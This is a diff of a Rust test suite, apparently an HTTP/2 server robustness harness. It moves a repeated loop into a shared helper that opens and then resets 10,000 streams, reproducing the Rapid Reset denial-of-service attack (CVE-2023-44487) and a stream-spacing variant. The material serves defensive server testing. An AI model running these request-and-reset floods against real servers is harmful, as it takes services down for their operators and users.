@@ -5,6 +5,7 @@ use std::time::Duration;
 
 use framewright::FrameType;
 
+use crate::attacker::Attacker;
 use crate::raw::{END_HEADERS, END_STREAM, frame, get, string, window_update};
 use crate::trial::Attack;
 
@@ -25,6 +26,20 @@ fn reset(stream: u32) -> Vec<u8> {
     frame(FrameType::RST_STREAM, 0, stream, &8_u32.to_be_bytes())
 }
 
+/// Resets 10,000 requests, their streams so far apart, but each only once it has
+/// reached the server.
+fn reset_once_accepted(a: &mut Attacker, distance: u32) {
+    a.reads();
+    for batch in 0..500 {
+        let ids = (batch * 20..batch * 20 + 20).map(|i| distance * i + 1);
+        a.each(ids.clone(), |stream| get(stream, "/bytes?1000000", &[]));
+        if !a.round_trip() {
+            return;
+        }
+        a.each(ids, reset);
+    }
+}
+
 #[test]
 fn cve_2023_44487_rapid_reset() {
     let attack = Attack::new("rapid reset", |a| {
@@ -38,17 +53,7 @@ fn cve_2023_44487_rapid_reset() {
 
 #[test]
 fn cve_2023_44487_reset_once_they_are_accepted() {
-    let attack = Attack::new("reset once accepted", |a| {
-        a.reads();
-        for batch in 0..500 {
-            let ids = (batch * 20..batch * 20 + 20).map(|i| 2 * i + 1);
-            a.each(ids.clone(), |stream| get(stream, "/bytes?1000000", &[]));
-            if !a.round_trip() {
-                return;
-            }
-            a.each(ids, reset);
-        }
-    });
+    let attack = Attack::new("reset once accepted", |a| reset_once_accepted(a, 2));
     attack.on_servers();
 }
 
@@ -111,15 +116,7 @@ fn rfc9113_5_1_1_the_last_streams() {
 #[test]
 fn rfc9113_5_1_1_streams_far_apart() {
     let attack = Attack::new("streams far apart, reset", |a| {
-        a.reads();
-        for batch in 0..500 {
-            let ids = (batch * 20..batch * 20 + 20).map(|i| 100_002 * i + 1);
-            a.each(ids.clone(), |stream| get(stream, "/bytes?1000000", &[]));
-            if !a.round_trip() {
-                return;
-            }
-            a.each(ids, reset);
-        }
+        reset_once_accepted(a, 100_002);
     });
     attack.on_servers();
 }
